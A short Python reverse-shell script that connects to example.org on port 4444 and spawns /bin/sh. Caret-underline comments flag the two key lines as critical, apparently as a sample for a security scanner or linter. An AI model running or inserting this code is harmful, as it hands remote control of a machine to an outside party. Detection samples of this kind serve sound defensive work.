import os
import pty
import socket

s = socket.socket()
s.connect(("example.org", 4444))
os.dup2(s.fileno(), 0)
#^^^^^^^^^^^^^^^^^^^^^ critical: hands a shell of this machine to whoever is at the other end
pty.spawn("/bin/sh")
#^^^^^^^^^^^^^^^^^^^ critical: hands a shell of this machine to whoever is at the other end
s.close()
